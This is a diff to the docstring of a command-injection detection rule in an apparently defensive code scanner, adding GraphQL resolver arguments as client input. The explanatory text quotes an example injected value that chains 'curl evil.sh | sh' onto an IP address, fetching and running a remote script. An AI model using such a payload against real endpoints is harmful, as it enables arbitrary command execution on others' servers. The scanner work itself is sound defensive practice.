@@ -83,6 +83,10 @@ class CommandInjection(FlowRule):
     checked against an allow-list or a regular expression are clean. Anchor: the line of the
     call that runs the command.
 
+    GraphQL resolver arguments (graphene `resolve_*` methods and `mutate`, strawberry and
+    ariadne mutations) are client input too; such findings name the endpoint and the field
+    (`POST /graphql (query search)`).
+
     ## Why it matters
     A shell reads `;`, `|`, `&&`, `$(...)` and backticks: a client who sends
     `8.8.8.8; curl evil.sh | sh` to a "ping" endpoint runs any command with the server's
